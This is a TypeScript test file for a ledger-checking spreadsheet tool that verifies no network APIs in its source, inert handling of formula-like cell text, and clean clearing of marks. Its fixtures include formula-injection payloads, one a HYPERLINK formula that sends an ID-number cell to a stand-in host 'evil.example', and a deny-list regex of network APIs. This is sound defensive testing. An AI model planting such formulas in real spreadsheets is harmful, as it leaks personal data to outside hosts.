// Data-safety guarantees that cut across modules: no network code in the product, cell text never becomes a
// formula or an external link in anything we write, and marks on the file host clear without a trace.
import { promises as fs } from 'fs';
import os from 'os';
import path from 'path';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { main } from '../../src/cli/main';
import { checkChar } from '../../src/core/id/gb11643';
import { XlsxHost } from '../../src/hosts/xlsx/xlsxHost';
import { readZip } from '../../src/hosts/xlsx/zip';
import type { Mark } from '../../src/core/host/workbookHost';
import type { Severity } from '../../src/core/types';

const ROOT = path.join(__dirname, '..', '..');

async function files(dir: string): Promise<string[]> {
  const out: string[] = [];
  for (const e of await fs.readdir(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) out.push(...(await files(p)));
    else if (/\.(ts|tsx|js|html)$/.test(e.name)) out.push(p);
  }
  return out;
}

test('no product code can send data anywhere: no network APIs in src/', async () => {
  const forbidden =
    /\b(fetch\s*\(|XMLHttpRequest|WebSocket|EventSource|sendBeacon|navigator\.sendBeacon|require\(['"](http|https|net|dgram|tls)['"]\)|from ['"](node:)?(http|https|net|dgram|tls)['"]|axios|telemetry|analytics|applicationinsights)/i;
  const hits: string[] = [];
  for (const f of await files(path.join(ROOT, 'src'))) {
    const text = await fs.readFile(f, 'utf8');
    text.split('\n').forEach((line, i) => {
      // Comments may say what we do not do.
      const code = line.replace(/\/\/.*$/, '').replace(/^\s*\*.*$/, '');
      if (forbidden.test(code)) hits.push(`${path.relative(ROOT, f)}:${i + 1}: ${line.trim()}`);
    });
  }
  expect(hits).toEqual([]);
});

const id = (p6: string, birth: string, seq: string) => p6 + birth + seq + checkChar(p6 + birth + seq);

test('ledger text that looks like a formula stays text in the annotated copy and the summaries; links stay inside', async () => {
  const dir = await fs.mkdtemp(path.join(os.tmpdir(), 'bangfu-inject-'));
  try {
    const file = path.join(dir, 'ledger.xlsx');
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('名单');
    ws.addRow(['XX村台账']);
    ws.addRow(['数据日期：2024-12-31']);
    ws.addRow([
      '序号',
      '行政村',
      '村民小组',
      '户编号',
      '姓名',
      '证件号码',
      '人数',
      '与户主关系',
      '户类型',
      '人均纯收入',
    ]);
    const evil = ['=HYPERLINK("http://evil.example/?d="&F4,"点击")', '+1+1', '-2+3', '@SUM(1)'];
    evil.forEach((text, i) =>
      ws.addRow([
        i + 1,
        text,
        text,
        `H${i}`,
        text,
        id('520102', '19800101', String(100 + i)),
        1,
        '户主',
        '脱贫户',
        9000,
      ]),
    );
    // One checksum error so the annotated copy and the rectification list have findings on these rows.
    ws.getCell('F4').value =
      String(ws.getCell('F4').value).slice(0, 17) +
      (String(ws.getCell('F4').value).endsWith('0') ? '1' : '0');
    await wb.xlsx.writeFile(file);

    const annotated = path.join(dir, 'annotated.xlsx');
    const summary = path.join(dir, 'summary.xlsx');
    const code = await main(['check', file, '--annotate', annotated, '--summary', summary, '--quiet'], {
      out: { write: () => true },
      err: { write: () => true },
    });
    expect(code).toBe(1);

    let formulas = 0;
    let links = 0;
    let evilSeen = 0;
    for (const out of [annotated, summary]) {
      const book = new ExcelJS.Workbook();
      await book.xlsx.readFile(out);
      book.eachSheet((sheet) =>
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            const v = cell.value as unknown;
            if (v && typeof v === 'object' && 'formula' in (v as object)) {
              formulas++;
              const f = String((v as { formula: string }).formula);
              // Our own formulas are sums, rounds and ratios over cell references only.
              expect(f).toMatch(/^[A-Z0-9$:(),+\-*/<>=."" ]+$/);
              expect(f).not.toMatch(/HYPERLINK|http|evil/i);
            }
            if (typeof v === 'string' && evil.some((e) => v.includes(e))) evilSeen++;
            const link = cell.hyperlink;
            if (link) {
              links++;
              expect(link.startsWith('#')).toBe(true);
            }
          }),
        ),
      );
    }
    expect(evilSeen).toBeGreaterThan(0); // the text made it into our sheets — as text
    expect(formulas).toBeGreaterThan(0); // the summaries do use (our own) formulas
    // ExcelJS lists only relationship-based links; read the sheet XML of the annotated copy directly: every
    // <hyperlink> is an in-document `location`, none points at a relationship (an external target).
    const zip = readZip(await fs.readFile(annotated));
    const xml = zip.entries
      .filter((e) => /^xl\/worksheets\/sheet\d+\.xml$/.test(e.name))
      .map((e) => zip.read(e).toString('utf8'))
      .join('');
    const hyperlinks = xml.match(/<hyperlink\b[^>]*>/g) ?? [];
    expect(hyperlinks.length + links).toBeGreaterThan(0);
    for (const h of hyperlinks) {
      expect(h).toMatch(/\blocation="/);
      expect(h).not.toMatch(/\br:id="/);
    }
    const rels = zip.entries
      .filter((e) => e.name.endsWith('.rels'))
      .map((e) => zip.read(e).toString('utf8'))
      .join('');
    expect(rels).not.toMatch(/TargetMode="External"/);
  } finally {
    await fs.rm(dir, { recursive: true, force: true });
  }
});

test('file host: mark-then-clear on random sheets with random prior fills and notes restores every cell', async () => {
  const severity = fc.constantFrom<Severity>('error', 'warning', 'info');
  const cellArb = fc.record({ r: fc.integer({ min: 1, max: 8 }), c: fc.integer({ min: 1, max: 6 }) });
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.record({ at: cellArb, v: fc.oneof(fc.string(), fc.integer(), fc.constant(null)) }), {
        maxLength: 20,
      }),
      fc.array(fc.record({ at: cellArb, color: fc.constantFrom('FFFFFF00', 'FF00B050', 'FFFFFFFF') }), {
        maxLength: 6,
      }),
      fc.array(fc.record({ at: cellArb, text: fc.string({ minLength: 1 }) }), { maxLength: 4 }),
      fc.array(fc.array(fc.record({ at: cellArb, sev: severity, msg: fc.string() }), { maxLength: 12 }), {
        minLength: 1,
        maxLength: 3,
      }),
      async (values, fills, notes, rounds) => {
        const wb = new ExcelJS.Workbook();
        const ws = wb.addWorksheet('表');
        for (const { at, v } of values) ws.getCell(at.r, at.c).value = v;
        for (const { at, color } of fills)
          ws.getCell(at.r, at.c).fill = { type: 'pattern', pattern: 'solid', fgColor: { argb: color } };
        for (const { at, text } of notes) ws.getCell(at.r, at.c).note = text;
        const state = () => {
          const s: Record<string, unknown> = {};
          ws.eachRow({ includeEmpty: true }, (row) =>
            row.eachCell({ includeEmpty: true }, (cell) => {
              const entry = { v: cell.value ?? null, f: cell.fill ?? null, n: cell.note ?? null };
              if (entry.v !== null || entry.f !== null || entry.n !== null)
                s[cell.address] = JSON.stringify(entry);
            }),
          );
          return { cells: s, sheets: wb.worksheets.map((w) => w.name) };
        };
        const before = state();
        const host = new XlsxHost(wb);
        for (const round of rounds) {
          const marks: Mark[] = round.map((m) => ({
            sheet: '表',
            cell: ws.getCell(m.at.r, m.at.c).address,
            severity: m.sev,
            message: m.msg,
          }));
          await host.applyMarks(marks);
        }
        await host.clearMarks();
        expect(await host.markedCount()).toBe(0);
        expect(state()).toEqual(before);
      },
    ),
    { numRuns: 80 },
  );
});
